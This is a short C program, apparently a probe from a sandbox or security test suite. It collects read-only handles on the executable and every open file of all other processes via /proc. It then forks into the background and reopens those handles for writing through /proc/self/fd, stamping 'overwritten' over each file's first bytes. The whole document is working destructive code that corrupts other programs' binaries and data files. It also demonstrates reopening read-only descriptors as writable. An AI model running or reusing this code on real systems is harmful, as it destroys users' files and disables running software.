/*
 * overwrite: keeps a handle on the program of every other process, and on every file that one has open,
 * waits for them to end, and writes over their first bytes.
 */
#include "way.h"

static int handles[256], count;

static void keep(const char *path) {
    struct stat self, other;
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    if (fd < 0)
        return;
    if (count < 256 && fstat(fd, &other) == 0 && S_ISREG(other.st_mode) &&
        stat("/proc/self/exe", &self) == 0 && (self.st_dev != other.st_dev || self.st_ino != other.st_ino))
        handles[count++] = fd;
    else
        close(fd);
}

static void keep_all(const char *pid) {
    char path[600];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    keep(path);
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *fds = opendir(path);
    if (!fds)
        return;
    for (struct dirent *entry; (entry = readdir(fds));) {
        snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, entry->d_name);
        if (entry->d_name[0] != '.')
            keep(path);
    }
    closedir(fds);
}

int main(void) {
    pid_t self = getpid();
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes && (entry = readdir(processes));)
        if (atoi(entry->d_name) > 0 && atoi(entry->d_name) != self)
            keep_all(entry->d_name);
    fprintf(stderr, "%d files\n", count);
    if (count == 0 || fork() > 0)
        return 0;
    for (int wait = 0; wait < 100; wait++) {
        for (int i = 0; i < count; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", handles[i]);
            int fd = open(path, O_WRONLY);
            if (fd >= 0 && write(fd, "overwritten", 11) == 11)
                fprintf(stderr, "wrote to %d\n", handles[i]);
            close(fd);
        }
        usleep(10000);
    }
    return 0;
}
